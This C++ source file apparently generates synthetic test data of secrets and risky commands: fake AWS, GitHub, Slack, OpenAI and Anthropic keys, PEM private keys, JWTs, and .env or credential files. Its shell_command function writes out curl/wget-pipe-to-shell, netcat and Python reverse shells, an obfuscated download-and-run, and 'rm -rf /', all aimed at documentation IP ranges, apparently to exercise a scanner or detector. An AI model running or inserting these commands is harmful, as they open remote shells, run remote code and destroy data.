// risk_text.cpp — see risk_text.hpp.
#include "risk_text.hpp"

#include <fmt/format.h>

#include <array>

#include "codec.hpp"
#include "text_gen.hpp"

namespace tcpr::gen {
namespace {

constexpr std::string_view kBase64Chars =
    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

// A documentation address (RFC 5737) for commands that fetch or connect somewhere.
std::string test_net_ip(Rng& rng) {
  static constexpr std::string_view kNets[] = {"192.0.2", "198.51.100", "203.0.113"};
  return fmt::format("{}.{}", rng.pick(std::span<const std::string_view>(kNets)),
                     rng.between(1, 254));
}

// A PEM block (RFC 7468): Base64 of a DER-looking body in 64-character lines (70 for OpenSSH).
std::string pem_private_key(Rng& rng) {
  struct Kind {
    std::string_view label;
    std::string_view der_prefix;  // Base64 of the DER header real keys of this kind start with
    std::size_t body_chars;
    std::size_t line;
  };
  static constexpr Kind kKinds[] = {
      {"RSA PRIVATE KEY", "MIIEowIBAAKCAQEA", 1588, 64},
      {"EC PRIVATE KEY", "MHcCAQEEI", 160, 64},
      {"PRIVATE KEY", "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC", 1620, 64},
      {"OPENSSH PRIVATE KEY",
       "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW", 340, 70},
  };
  const Kind& kind = rng.pick(std::span<const Kind>(kKinds));
  std::string body(kind.der_prefix);
  body += random_chars(rng, kind.body_chars - body.size(), kBase64Chars);
  std::string out = fmt::format("-----BEGIN {}-----\n", kind.label);
  for (std::size_t at = 0; at < body.size(); at += kind.line) {
    out += body.substr(at, kind.line);
    out += '\n';
  }
  out += fmt::format("-----END {}-----\n", kind.label);
  return out;
}

std::string jwt(Rng& rng) {
  static constexpr std::string_view kHeaders[] = {R"({"alg":"HS256","typ":"JWT"})",
                                                  R"({"alg":"RS256","typ":"JWT","kid":"k1"})"};
  const std::string payload = fmt::format(
      R"({{"sub":"svc-{}","iss":"https://auth.example.com","iat":{},"exp":{},"scope":"read write"}})",
      hex_id(rng, 4), 1'699'990'000 + rng.below(9'000), 1'700'090'000 + rng.below(9'000));
  std::array<std::uint8_t, 32> signature{};
  rng.fill(signature);
  return fmt::format("{}.{}.{}", base64url(rng.pick(std::span<const std::string_view>(kHeaders))),
                     base64url(payload), base64url(signature));
}

std::span<const std::uint8_t> as_bytes(const std::string& text) {
  return {reinterpret_cast<const std::uint8_t*>(text.data()), text.size()};
}

std::string digits(Rng& rng, std::size_t n) { return random_chars(rng, n, "0123456789"); }

}  // namespace

std::string random_chars(Rng& rng, std::size_t n, std::string_view alphabet) {
  // One draw for the whole string (Rng::fill); the mapping's bias (< 1/256) does not matter here.
  std::string out(n, ' ');
  rng.fill({reinterpret_cast<std::uint8_t*>(out.data()), n});
  for (char& c : out) c = alphabet[static_cast<unsigned char>(c) * alphabet.size() >> 8];
  return out;
}

Secret make_secret(Rng& rng, SecretKind kind) {
  Secret s{kind, {}};
  switch (kind) {
    case SecretKind::kAwsKeyPair:
      s.fields.emplace_back("aws_access_key_id", "AKIA" + random_chars(rng, 16, kUpperDigits));
      s.fields.emplace_back("aws_secret_access_key", random_chars(rng, 40, kBase64Chars));
      break;
    case SecretKind::kPrivateKey:
      s.fields.emplace_back("private_key", pem_private_key(rng));
      break;
    case SecretKind::kGithubToken:
      s.fields.emplace_back("github_token", "ghp_" + random_chars(rng, 36, kAlnum));
      break;
    case SecretKind::kGithubFineGrained:
      s.fields.emplace_back("github_token",
                            fmt::format("github_pat_11{}_{}", random_chars(rng, 20, kUpperDigits),
                                        random_chars(rng, 59, kAlnum)));
      break;
    case SecretKind::kGitlabToken:
      s.fields.emplace_back("gitlab_token", "glpat-" + random_chars(rng, 20, kUrlSafe));
      break;
    case SecretKind::kSlackBot:
      s.fields.emplace_back("slack_token",
                            fmt::format("xoxb-{}-{}-{}", digits(rng, 12), digits(rng, 13),
                                        random_chars(rng, 24, kAlnum)));
      break;
    case SecretKind::kSlackUser:
      s.fields.emplace_back("slack_token",
                            fmt::format("xoxp-{}-{}-{}-{}", digits(rng, 12), digits(rng, 12),
                                        digits(rng, 13), random_chars(rng, 32, kLowerHex)));
      break;
    case SecretKind::kSkKey:
      s.fields.emplace_back("api_key", rng.chance(50) ? openai_key(rng) : anthropic_key(rng));
      break;
    case SecretKind::kJwt:
      s.fields.emplace_back("id_token", jwt(rng));
      break;
  }
  return s;
}

Secret make_secret(Rng& rng) {
  return make_secret(rng, static_cast<SecretKind>(rng.below(kSecretKinds)));
}

SecretFile secret_file(Rng& rng, const Secret& secret) {
  if (secret.kind == SecretKind::kAwsKeyPair) {
    return {"credentials", "application/octet-stream",
            fmt::format("[default]\naws_access_key_id = {}\naws_secret_access_key = {}\n"
                        "region = {}\n",
                        secret.fields[0].second, secret.fields[1].second,
                        rng.chance(50) ? "us-east-1" : "eu-west-1")};
  }
  if (secret.kind == SecretKind::kPrivateKey) {
    return {"id_rsa", "application/x-pem-file", secret.fields[0].second};
  }
  std::string env = fmt::format("APP_ENV=staging\nLOG_LEVEL=info\nREGION={}\n",
                                rng.chance(50) ? "eu-west" : "us-east");
  for (const auto& [name, value] : secret.fields) {
    std::string upper(name);
    for (char& c : upper) c = static_cast<char>(c >= 'a' && c <= 'z' ? c - 32 : c);
    env += fmt::format("{}={}\n", upper, value);
  }
  return {".env", "text/plain", env};
}

std::string shell_command(Rng& rng) {
  const std::string ip = test_net_ip(rng);
  switch (rng.below(8)) {
    case 0:
      return "sh -c 'id; uname -a; cat /etc/passwd'";
    case 1:
      return fmt::format("curl -fsSL http://{}/install.sh | sh", ip);
    case 2:
      return fmt::format("wget -O- http://{}/s.sh | bash", ip);
    case 3:
      return fmt::format("nc -e /bin/sh {} {}", ip, rng.between(1024, 65535));
    case 4:
      return fmt::format(
          "echo {} | base64 -d | sh",
          base64(as_bytes(fmt::format("curl -s http://{}/x -o /tmp/x; /tmp/x", ip))));
    case 5:
      return fmt::format(
          "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"{}\",{}));"
          "[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call([\"/bin/sh\",\"-i\"])'",
          ip, rng.between(1024, 65535));
    case 6:
      return "rm -rf / --no-preserve-root";
    default:
      return fmt::format("/bin/sh -c \"curl -s http://{}/a.sh | sh\"", ip);
  }
}

std::string short_akia(Rng& rng) {
  return "AKIA" + random_chars(rng, rng.between(4, 12), kUpperDigits);
}

std::string openai_key(Rng& rng) {
  if (rng.chance(70)) return "sk-proj-" + random_chars(rng, rng.between(48, 120), kUrlSafe);
  return fmt::format("sk-{}T3BlbkFJ{}", random_chars(rng, 20, kAlnum),
                     random_chars(rng, 20, kAlnum));
}

std::string anthropic_key(Rng& rng) {
  return fmt::format("sk-ant-api03-{}AA", random_chars(rng, 93, kUrlSafe));
}

std::string gemini_key(Rng& rng) { return "AIza" + random_chars(rng, 35, kUrlSafe); }

}  // namespace tcpr::gen
